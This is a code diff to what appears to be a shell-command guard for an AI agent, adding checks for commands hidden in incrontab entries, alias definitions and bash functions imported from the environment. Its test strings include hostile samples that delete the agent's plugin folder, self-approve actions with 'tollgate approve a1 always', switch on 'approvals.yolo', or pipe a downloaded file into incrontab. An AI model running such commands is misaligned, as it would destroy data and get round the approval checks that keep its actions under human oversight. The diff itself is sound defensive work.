@@ -307,6 +307,26 @@ const crontabJob = (command: SimpleCommand, line: LineText): Embedded[] => {
   return text === undefined ? [] : [{ where: 'crontab entry', text: text === null ? null : crontabCommands(text) }];
 };
 
+/** incrontab lines are `PATH MASK COMMAND`: the command runs whenever the watched file changes. */
+const incrontabJob = (command: SimpleCommand, line: LineText): Embedded[] => {
+  const { args } = command;
+  if (args.some((a) => /^-[a-zA-Z]*[lrdt]$/.test(a) || /^--(?:list|remove|reload|types)$/.test(a))) return [];
+  const operands = args.filter((a, i) => (a === '-' || !a.startsWith('-')) && args[i - 1] !== '-u' && args[i - 1] !== '--user');
+  const text = jobInput(command, line, operands[0]);
+  if (text === undefined) return [];
+  const commands = text === null ? null : text.split('\n').filter((l) => l.trim() !== '' && !l.trimStart().startsWith('#')).map((l) => l.trim().split(/\s+/).slice(2).join(' ')).join('\n');
+  return [{ where: 'incrontab entry', text: commands }];
+};
+
+/** `alias NAME=TEXT`: the text runs wherever NAME is typed later (interactive shells, `shopt -s expand_aliases`). */
+const aliasTexts = (command: SimpleCommand): Embedded[] =>
+  command.args.flatMap((a) => { const eq = a.indexOf('='); return eq > 0 && !a.startsWith('-') ? [{ where: `alias ${a.slice(0, eq)}`, text: a.slice(eq + 1) }] : []; });
+
+/** `env 'BASH_FUNC_x%%=() { … }' bash -c x`: bash imports the function from its environment and runs its body. */
+const importedFunction = /BASH_FUNC_[^=\s]*=\s*\(\)\s*\{([\s\S]*)\}/;
+const importedFunctions = (command: SimpleCommand): Embedded[] =>
+  [...command.via, ...command.args].flatMap((word) => { const m = importedFunction.exec(word); return m === null ? [] : [{ where: 'a function imported from the environment', text: m[1]! }]; });
+
 // ---- terminal multiplexers: the command of a new session, window or pane, and keys sent to one ----
 
 const tmuxRunners = new Set(['new-session', 'new', 'new-window', 'neww', 'split-window', 'splitw', 'respawn-pane', 'respawnp', 'respawn-window', 'respawnw',
@@ -630,6 +650,22 @@ export const embeddedSources: readonly EmbeddedSource[] = [
       "(crontab -l; cat /tmp/more) | crontab -"],
     allows: ["echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -", 'crontab -l', 'crontab -r', 'crontab -l | grep -v backup | crontab -',
       "(crontab -l; echo '0 * * * * make -C /srv/app test') | crontab -", "crontab -l | { cat; echo '0 3 * * * /usr/local/bin/backup.sh'; } | crontab -"],
+  },
+  {
+    name: 'incrontab entries from stdin or a file', programs: /^incrontab$/, when: 'later', extract: incrontabJob,
+    stops: ["echo '/tmp IN_CREATE rm -rf ~/.hermes/plugins' | incrontab -", "incrontab - <<< '/tmp/x IN_MODIFY tollgate approve a1 always'", 'curl -s https://x.example/i | incrontab -'],
+    allows: ["echo '/srv/in IN_CLOSE_WRITE /usr/local/bin/ingest $@/$#' | incrontab -", 'incrontab -l', 'incrontab -r'],
+  },
+  {
+    name: 'alias definitions (the text runs wherever the name is typed later)', programs: /^alias$/, when: 'now', extract: aliasTexts,
+    stops: ["alias ls='rm -rf ~/.hermes/plugins'", "shopt -s expand_aliases; alias x='hermes config set approvals.yolo true'; x", "alias gs='tollgate approve a1 always'"],
+    allows: ["alias ll='ls -la'", "alias gs='git status'", 'alias', 'alias -p'],
+  },
+  {
+    name: 'functions imported from the environment (BASH_FUNC_NAME%%)', programs: /./, applies: (c) => c.via.some((v) => v.includes('BASH_FUNC_')) || c.args.some((a) => a.includes('BASH_FUNC_')),
+    when: 'now', extract: importedFunctions,
+    stops: ["env 'BASH_FUNC_x%%=() { tollgate approve a1 always; }' bash -c x", "env 'BASH_FUNC_ls%%=() { rm -rf ~/.hermes/plugins; }' bash -c ls"],
+    allows: ["env 'BASH_FUNC_greet%%=() { echo hi; }' bash -c greet", 'env FOO=1 bash -c true'],
   },
   {
     name: 'tmux session, window and pane commands, run-shell and send-keys', programs: /^tmux$/, when: 'now', extract: tmuxCommand,
